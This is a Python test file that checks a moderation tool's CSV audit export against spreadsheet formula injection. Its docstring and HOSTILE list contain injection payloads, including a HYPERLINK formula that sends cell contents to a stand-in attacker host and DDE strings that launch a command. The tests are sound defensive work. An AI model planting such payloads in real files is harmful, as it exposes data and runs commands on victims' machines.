"""Hole 7: text from outside reaches a spreadsheet as text, never as a formula.

The attack: a supporter titles their story ``=HYPERLINK("http://evil.invalid/?"&A1,"x")``;
a moderator opens the audit export in a spreadsheet, which evaluates the cell and sends the
sheet's contents to the attacker when clicked. OWASP: prefix such cells with a single quote.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client

from kernel.spreadsheet import csv_safe_cell
from moderation.services import claim_take
from stories.audit import audit_record
from tests.moderation.factories import StoryFactory, make_user

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(client: Client, story_id: int) -> list[list[str]]:
    response = client.get("/moderation/audit/export.csv", {"story": story_id})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("title", HOSTILE)
def test_a_formula_in_a_story_title_is_text_in_the_audit_export(title: str) -> None:
    moderator = make_user("moderator")
    story = StoryFactory(title=title)
    claim_take(story_id=story.pk, actor=moderator)
    audit_record(action="test.comment", story=story, actor=moderator, comment=title)
    client = Client()
    client.force_login(moderator)
    header, *rows = _export(client, story.pk)
    title_col, comment_col = header.index("story_title"), header.index("comment")
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row[title_col] == "'" + title  # shown as typed, after the quote
    assert "'" + title in {row[comment_col] for row in rows}


def test_harmless_cells_are_unchanged() -> None:
    for value in ("Vom Praktikum zur Meisterin", "2026-12-04T10:00:00+01:00", "{}", "", "a=b"):
        assert csv_safe_cell(value) == value
    assert csv_safe_cell(None) == ""
    assert csv_safe_cell(42) == "42"


def test_every_csv_export_in_the_product_uses_the_safe_writer() -> None:
    root = Path(__file__).resolve().parents[2]
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(root))
        for folder in ("config", "moderation", "publishing", "stories", "workers")
        for path in (root / folder).rglob("*.py")
        if raw.search(path.read_text(encoding="utf-8"))
        and path != root / "config" / "spreadsheet.py"
    ]
    assert offenders == []
